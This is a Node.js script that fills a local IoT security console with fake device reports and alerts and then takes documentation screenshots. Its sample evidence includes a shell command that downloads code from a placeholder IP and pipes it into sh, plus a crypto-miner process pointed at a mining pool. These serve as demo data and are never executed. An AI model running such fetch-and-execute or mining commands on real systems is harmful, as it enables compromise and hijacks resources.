// Makes the pictures of the console in docs/, of a local stack that runs here (npm start -- --serve):
// node_modules/.bin/node scripts/screenshots.mjs
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { setTimeout as delay } from 'node:timers/promises';
import { CreateThingCommand, IoTClient } from '@aws-sdk/client-iot';
import { PublishCommand, SNSClient } from '@aws-sdk/client-sns';
import chromium from '@sparticuz/chromium';
import mqtt from 'mqtt';
import { chromium as playwright } from 'playwright-core';

const {
  endpoint,
  region,
  credentials,
  outputs,
  mqtt: broker,
  ca,
  things,
  console: address,
} = JSON.parse(readFileSync('.cordon/local.json', 'utf8'));
const settings = () => ({ endpoint, region, credentials: { ...credentials } });
/** More than the fleet limit: the rest waits for approval. */
const pumps = 18;

await startStory();
await startStorm();
await takePictures();
process.exit();

/** mything1 launches a shell that fetches a miner. */
async function startStory() {
  const startedAt = Date.now();
  const found = (pid, ppid, executable, commandLine, parents) => ({
    ...{ metric: 'num_child_procs_myapp', user: 'myapp', startedAt },
    ...{ pid, ppid, executable, commandLine, parents },
  });
  const evidence = [
    found(4711, 812, '/bin/sh', "sh -c 'curl -s http://198.51.100.7/x | sh'", ['myapp', 'systemd']),
    found(4713, 4711, '/tmp/.x/kworkerd', '/tmp/.x/kworkerd -o pool.example:3333', [
      'sh',
      'myapp',
      'systemd',
    ]),
  ];
  const { cert, key } = things.mything1;
  const client = await mqtt.connectAsync(`mqtts://${broker.host}:${broker.port}`, {
    clientId: 'mything1-cordon',
    ca: readFileSync(ca),
    cert: readFileSync(cert),
    key: readFileSync(key),
    reconnectPeriod: 0,
  });
  for (const number of [0, 0, 2]) {
    const report = {
      header: { report_id: Date.now(), version: '1.0' },
      custom_metrics: { num_child_procs_myapp: [{ number }] },
      ...(number > 0 && { evidence }),
    };
    await client.publishAsync('cordon/things/mything1/reports/json', JSON.stringify(report), { qos: 1 });
    await delay(1_000);
  }
  client.end(true);
}

async function startStorm() {
  const iot = new IoTClient(settings());
  const sns = new SNSClient(settings());
  const criteria = { comparisonOperator: 'less-than-equals', value: { number: 0 } };
  for (let index = 0; index < pumps; index += 1) {
    const thingName = `pump-${String(index).padStart(3, '0')}`;
    await iot.send(new CreateThingCommand({ thingName }));
    const alert = {
      ...{ violationEventTime: Date.now(), thingName, violationEventType: 'in-alarm' },
      behavior: { name: 'no-child-processes', metric: 'num_child_procs_myapp', criteria },
      ...{ metricValue: { number: 1 }, securityProfileName: 'myapp-processes' },
      violationId: randomBytes(16).toString('hex'),
    };
    await sns.send(new PublishCommand({ TopicArn: outputs.AlertsTopicArn, Message: JSON.stringify(alert) }));
  }
}

async function takePictures() {
  const browser = await playwright.launch({
    executablePath: await chromium.executablePath(),
    args: ['--no-sandbox', '--disable-gpu'],
  });
  const options = { viewport: { width: 1_280, height: 800 }, locale: 'en-GB' };
  const light = await (await browser.newContext({ ...options, colorScheme: 'light' })).newPage();
  await light.goto(address);
  await light.getByText(/wait for approval since/).waitFor();
  await light.screenshot({ path: 'docs/console-list.png' });
  const dark = await (await browser.newContext({ ...options, colorScheme: 'dark' })).newPage();
  await dark.goto(`${address}cases/mything1`);
  await dark.getByText('the denial is verified').waitFor();
  await dark.locator('.chart canvas').waitFor();
  await dark.screenshot({ path: 'docs/console-case.png' });
  await browser.close();
}
